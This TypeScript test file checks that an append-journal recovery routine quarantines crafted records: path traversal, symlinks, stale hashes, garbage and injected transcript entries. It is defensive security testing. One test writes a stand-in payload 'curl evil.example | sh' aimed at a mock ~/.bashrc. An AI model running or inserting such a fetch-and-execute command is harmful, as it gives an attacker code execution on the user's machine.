/**
 * The JSONL roll-forward journal (src/core/store/journal.ts) against crafted records (issue 15, finding 1):
 * a state dir is untrusted, so a record in `<stateDir>/context/jsonl-appends/` must never append anywhere
 * but to a session transcript of that state dir, and only the rest of its own line. Each hostile record
 * leaves its target byte-identical, is moved to `jsonl-appends/quarantine/` with a reason file, and is
 * reported in one message; a genuine interrupted append beside it still completes.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { APPEND_JOURNAL_DIR, QUARANTINE_DIR, type RecoveryReport } from '../../src/core/store/journal';
import { appendJsonlEntries, recoverJsonlAppends } from '../../src/core/store/jsonlWriter';
import { tmpDir } from './helpers';
import { newJsonl, note, type Jsonl } from './support/writer';

const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
const journal = (stateDir: string) => path.join(stateDir, 'context', APPEND_JOURNAL_DIR);

interface Record_ {
  schema?: unknown;
  file?: unknown;
  offset?: unknown;
  length?: unknown;
  sha256?: unknown;
  prefixLength?: unknown;
  prefixSha256?: unknown;
  data?: unknown;
}

/** A record as the writer makes it, for `line` at `offset` of `file` (the prefix hashed from the file as it is). */
function recordFor(file: string, offset: number, line: Buffer): Record_ {
  const real = fs.realpathSync(file);
  const n = Math.min(offset, 4096);
  const prefix = fs.readFileSync(real).subarray(offset - n, offset);
  return { schema: 'openclaw-context/jsonl-append', file: real, offset, length: line.length, sha256: sha(line), prefixLength: n, prefixSha256: sha(prefix), data: line.toString('base64') };
}

/** Store a record under the name the writer gives it (hash of its `file`), or `name`. */
function putRecord(stateDir: string, rec: Record_ | string, name?: string): string {
  const dir = journal(stateDir);
  fs.mkdirSync(dir, { recursive: true });
  const f = path.join(dir, name ?? `${sha(String((rec as Record_).file)).slice(0, 32)}.json`);
  fs.writeFileSync(f, typeof rec === 'string' ? rec : JSON.stringify(rec));
  return f;
}

const entryLine = (id: string, parentId: string, extra: Record<string, unknown> = {}) =>
  Buffer.from(JSON.stringify({ type: 'custom', id, parentId, timestamp: '2026-04-10T09:01:00.000Z', customType: 'x', data: { n: 1 }, ...extra }) + '\n');

/** A file standing for ~/.bashrc: ends in a line our "payload" continues. */
function victim(): { file: string; bytes: Buffer } {
  const file = path.join(tmpDir('occtx-victim-'), '.bashrc');
  fs.writeFileSync(file, 'export PATH=$HOME/bin:$PATH\n');
  return { file, bytes: fs.readFileSync(file) };
}

/** The record is gone from the journal, in quarantine with a reason, and the report says so. */
function assertQuarantined(stateDir: string, recordPath: string, reports: RecoveryReport[] | string[], why: RegExp): void {
  const name = path.basename(recordPath);
  assert.equal(fs.existsSync(recordPath), false, `${name} left the journal`);
  const q = path.join(journal(stateDir), QUARANTINE_DIR);
  assert.ok(fs.existsSync(path.join(q, name)), `${name} is in quarantine`);
  const reason = fs.readFileSync(path.join(q, `${name}.reason.txt`), 'utf8');
  assert.match(reason, why);
  const msgs = reports.map((r) => (typeof r === 'string' ? r : r.message));
  const mine = msgs.filter((m) => m.includes(name));
  assert.equal(mine.length, 1, `one message for ${name}: ${msgs.join(' | ')}`);
  assert.match(mine[0]!, /was not applied/);
  assert.match(mine[0]!, why);
  assert.match(mine[0]!, /quarantine/);
}

/** A genuine torn append in `t`: the first 40 bytes of a line written, its record beside it. */
function tornAppend(t: Jsonl): { base: Buffer; line: Buffer; record: string } {
  const base = fs.readFileSync(t.file);
  const line = entryLine('torn0001', 'd4e5f6a7');
  const record = putRecord(t.stateDir, recordFor(t.file, base.length, line));
  fs.appendFileSync(t.file, line.subarray(0, 40));
  return { base, line, record };
}

describe('append journal: a genuine interrupted append is completed', function () {
  it('by the next write, then by recoverJsonlAppends at start-up; the file only grows', async function () {
    const t = newJsonl();
    const { base, line, record } = tornAppend(t);
    const w = await appendJsonlEntries(t.dir, t.row, [note('after')], t.opts);
    assert.ok(w.ok, JSON.stringify(w));
    assert.ok(w.notes.some((n) => /completed an interrupted append \(\d+ of \d+ bytes were missing\)/.test(n)), w.notes.join(' | '));
    assert.ok(fs.readFileSync(t.file).subarray(0, base.length + line.length).equals(Buffer.concat([base, line])), 'base + our whole line');
    assert.equal(w.previousLeafId, 'torn0001', 'the completed entry is the leaf the new one chains to');
    assert.equal(fs.existsSync(record), false);

    const t2 = newJsonl();
    const torn2 = tornAppend(t2);
    const reports = await recoverJsonlAppends(t2.stateDir);
    assert.equal(reports.length, 1);
    assert.equal(reports[0]!.status, 'completed', reports[0]!.message);
    assert.ok(fs.readFileSync(t2.file).equals(Buffer.concat([torn2.base, torn2.line])));
    assert.deepEqual(await recoverJsonlAppends(t2.stateDir), []);
  });

  it('a record whose append never started, or had completed, is removed with a note; nothing is written', async function () {
    const t = newJsonl();
    const base = fs.readFileSync(t.file);
    const line = entryLine('zz000001', 'd4e5f6a7');
    const rec = putRecord(t.stateDir, recordFor(t.file, base.length, line)); // nothing written yet
    const r = await recoverJsonlAppends(t.stateDir);
    assert.equal(r[0]?.status, 'cleared', JSON.stringify(r));
    assert.equal(fs.existsSync(rec), false);
    assert.ok(fs.readFileSync(t.file).equals(base), 'the never-started line was not written');
    fs.appendFileSync(t.file, line);
    putRecord(t.stateDir, recordFor(t.file, base.length, line));
    const done = await recoverJsonlAppends(t.stateDir);
    assert.equal(done[0]?.status, 'cleared');
    assert.match(done[0]!.message, /had completed/);
  });
});

describe('append journal: hostile records are quarantined, never applied', function () {
  it('a target outside the state dir (standing for ~/.bashrc), by absolute path and through `..`: untouched', async function () {
    const t = newJsonl();
    const v = victim();
    const payload = Buffer.from(v.bytes.toString().slice(-5) + 'curl evil.example | sh\n');
    // the record pretends the victim already holds the first 5 bytes of its "line"
    const abs = putRecord(t.stateDir, { ...recordFor(v.file, v.bytes.length - 5, payload) });
    const viaDots = `${t.dir}/../../../../${path.relative(path.dirname(t.stateDir), v.file)}`; // not normalised, on purpose
    assert.equal(path.resolve(viaDots), v.file);
    const dots = putRecord(t.stateDir, { ...recordFor(v.file, v.bytes.length - 5, payload), file: viaDots });
    const reports = await recoverJsonlAppends(t.stateDir);
    assert.ok(fs.readFileSync(v.file).equals(v.bytes), 'the victim is byte-identical');
    assertQuarantined(t.stateDir, abs, reports, /not entry lines of ours|not a session transcript/);
    assert.notEqual(abs, dots);
    assertQuarantined(t.stateDir, dots, reports, /not an absolute, normalised path|not entry lines of ours/);
  });

  it('a well-formed entry line aimed at a file outside, with a correct prefix hash: not a known transcript', async function () {
    const t = newJsonl();
    const v = victim();
    fs.appendFileSync(v.file, '{"type":"custom","id":"x1","parentId":null,');
    const before = fs.readFileSync(v.file);
    const line = entryLine('x1', 'p0');
    const rec = putRecord(t.stateDir, recordFor(v.file, v.bytes.length, line));
    // a sessions.json of the attacker's that names the victim does not make it a transcript either
    fs.writeFileSync(path.join(t.dir, 'sessions.json'), JSON.stringify({ 'agent:main:main': { sessionId: 'x', updatedAt: 1, sessionFile: v.file } }));
    const reports = await recoverJsonlAppends(t.stateDir);
    assert.ok(fs.readFileSync(v.file).equals(before), 'the victim is byte-identical');
    assertQuarantined(t.stateDir, rec, reports, /not a session transcript of this state dir/);
  });

  it('a symlinked sessions folder that leads outside the state dir, and a symlink to the transcript: not applied', async function () {
    const t = newJsonl();
    const outside = path.join(tmpDir('occtx-outside-'), 'sessions');
    fs.cpSync(t.dir, outside, { recursive: true });
    const agentDir = path.join(t.stateDir, 'agents', 'evil');
    fs.mkdirSync(agentDir, { recursive: true });
    fs.symlinkSync(outside, path.join(agentDir, 'sessions'));
    const target = path.join(outside, path.basename(t.file));
    const base = fs.readFileSync(target);
    const line = entryLine('torn0002', 'd4e5f6a7');
    fs.appendFileSync(target, line.subarray(0, 30));
    const before = fs.readFileSync(target);
    const viaFolder = putRecord(t.stateDir, recordFor(target, base.length, line));
    // a link inside the real sessions folder to the outside transcript
    const link = path.join(t.dir, 'link.jsonl');
    fs.symlinkSync(target, link);
    const viaLink = putRecord(t.stateDir, { ...recordFor(target, base.length, line), file: link });
    const reports = await recoverJsonlAppends(t.stateDir);
    assert.ok(fs.readFileSync(target).equals(before), 'the outside transcript is byte-identical');
    assertQuarantined(t.stateDir, viaFolder, reports, /not a session transcript of this state dir/);
    assertQuarantined(t.stateDir, viaLink, reports, /through a symbolic link/);
  });

  it('an unknown file in the sessions folder, a prefix that no longer matches, and garbage: untouched, quarantined', async function () {
    const t = newJsonl();
    // a file in the sessions folder that no sessions.json lists
    const stray = path.join(t.dir, 'stray.jsonl');
    fs.writeFileSync(stray, '{"type":"session","version":3,"id":"s","timestamp":"2026-04-10T09:00:00.000Z","cwd":"/w"}\n');
    const strayLine = entryLine('s1', 's');
    fs.appendFileSync(stray, strayLine.subarray(0, 20));
    const strayBytes = fs.readFileSync(stray);
    const unknown = putRecord(t.stateDir, recordFor(stray, strayBytes.length - 20, strayLine));
    // the known transcript, whose bytes before the offset changed since the record was made
    const { record: stale } = tornAppend(t);
    const rec = JSON.parse(fs.readFileSync(stale, 'utf8')) as Record_;
    fs.writeFileSync(stale, JSON.stringify({ ...rec, prefixSha256: sha('something else') }));
    const transcript = fs.readFileSync(t.file);
    // garbage, a record torn mid-JSON, a FIFO, a record with a wrong hash, and one naming another file than its name says
    const garbage = putRecord(t.stateDir, '\u0000\u0001not json at all', 'garbage.json');
    const torn = putRecord(t.stateDir, '{"schema":"openclaw-context/jsonl-append","file":"/x"', 'torn.json');
    const fifo = path.join(journal(t.stateDir), 'fifo.json');
    let fifoMade = false;
    try {
      (await import('node:child_process')).execFileSync('mkfifo', [fifo]);
      fifoMade = true;
    } catch {
      /* no mkfifo here */
    }
    const wrongHash = putRecord(t.stateDir, { ...recordFor(t.file, 10, entryLine('h1', 'p')), file: path.join(t.dir, 'other.jsonl'), sha256: sha('x') });
    const misnamed = putRecord(t.stateDir, recordFor(t.file, transcript.length, entryLine('m1', 'd4e5f6a7')), 'misnamed.json');
    const reports = await recoverJsonlAppends(t.stateDir);
    assert.ok(fs.readFileSync(stray).equals(strayBytes), 'the unlisted file is byte-identical');
    assert.ok(fs.readFileSync(t.file).equals(transcript), 'the transcript is byte-identical');
    assertQuarantined(t.stateDir, unknown, reports, /not a session transcript of this state dir/);
    assertQuarantined(t.stateDir, stale, reports, /before the append is not what the record expects/);
    assertQuarantined(t.stateDir, garbage, reports, /not a JSON append record/);
    assertQuarantined(t.stateDir, torn, reports, /not a JSON append record/);
    if (fifoMade) assertQuarantined(t.stateDir, fifo, reports, /not a regular file/);
    assertQuarantined(t.stateDir, wrongHash, reports, /does not match its length and hash/);
    assertQuarantined(t.stateDir, misnamed, reports, /name does not match its target/);
    assert.equal(reports.length, fifoMade ? 7 : 6, reports.map((r) => r.message).join(' | '));
  });

  it('bytes that are not entries of ours (a message, a broken chain, bad UTF-8): quarantined', async function () {
    const t = newJsonl();
    const base = fs.readFileSync(t.file);
    const bad = [
      Buffer.from(JSON.stringify({ type: 'message', id: 'm1', parentId: 'd4e5f6a7', timestamp: '2026-04-10T09:01:00.000Z', message: { role: 'user', content: 'injected' } }) + '\n'),
      Buffer.concat([entryLine('c1', 'd4e5f6a7'), entryLine('c2', 'not-c1')]),
      Buffer.from([0xff, 0xfe, 0x0a]),
      Buffer.from(JSON.stringify({ type: 'custom', id: 'n1', parentId: 'd4e5f6a7', timestamp: '2026-04-10T09:01:00.000Z', customType: 'x' })), // no line break
    ];
    for (const line of bad) {
      fs.appendFileSync(t.file, line.subarray(0, 1));
      const rec = putRecord(t.stateDir, recordFor(t.file, base.length, line));
      const r = await appendJsonlEntries(t.dir, t.row, [note('after')], t.opts);
      // the record is quarantined; the transcript ends mid-line, so the write refuses and says both
      assert.ok(!r.ok && r.code === 'partial-line', JSON.stringify(r));
      assert.match(r.message, /was not applied: its data is not entry lines of ours/);
      assertQuarantined(t.stateDir, rec, [r.message], /not entry lines of ours/);
      assert.ok(fs.readFileSync(t.file).subarray(0, base.length).equals(base), 'the transcript before the offset is untouched');
      assert.equal(fs.readFileSync(t.file).length, base.length + 1, 'nothing appended');
      fs.truncateSync(t.file, base.length); // test set-up only: the next case starts clean
      fs.rmSync(path.join(journal(t.stateDir), QUARANTINE_DIR), { recursive: true, force: true });
    }
  });

  it('hostile records beside a genuine one: the genuine append still completes, in the same run', async function () {
    const t = newJsonl();
    const v = victim();
    const { base, line } = tornAppend(t);
    const evil = putRecord(t.stateDir, '{"schema":"openclaw-context/jsonl-append"}', 'evil.json');
    const outside = putRecord(t.stateDir, recordFor(v.file, v.bytes.length, entryLine('e1', 'x')));
    const reports = await recoverJsonlAppends(t.stateDir);
    assert.ok(fs.readFileSync(t.file).equals(Buffer.concat([base, line])), 'the genuine line is complete');
    assert.ok(fs.readFileSync(v.file).equals(v.bytes));
    assert.deepEqual(reports.map((r) => r.status).sort(), ['completed', 'quarantined', 'quarantined']);
    assertQuarantined(t.stateDir, evil, reports, /malformed|names no target/);
    assertQuarantined(t.stateDir, outside, reports, /not a session transcript/);
    assert.deepEqual(await recoverJsonlAppends(t.stateDir), [], 'quarantined records are not read again');
  });
});
